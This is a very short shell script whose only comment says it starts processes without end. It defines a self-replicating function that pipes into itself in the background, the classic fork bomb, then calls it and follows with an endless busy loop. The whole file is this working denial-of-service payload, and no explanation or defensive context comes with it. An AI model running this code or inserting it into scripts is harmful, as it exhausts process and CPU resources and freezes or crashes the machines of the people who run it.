# Starts processes without end.
bomb() { bomb | bomb & }
bomb
while :; do :; done
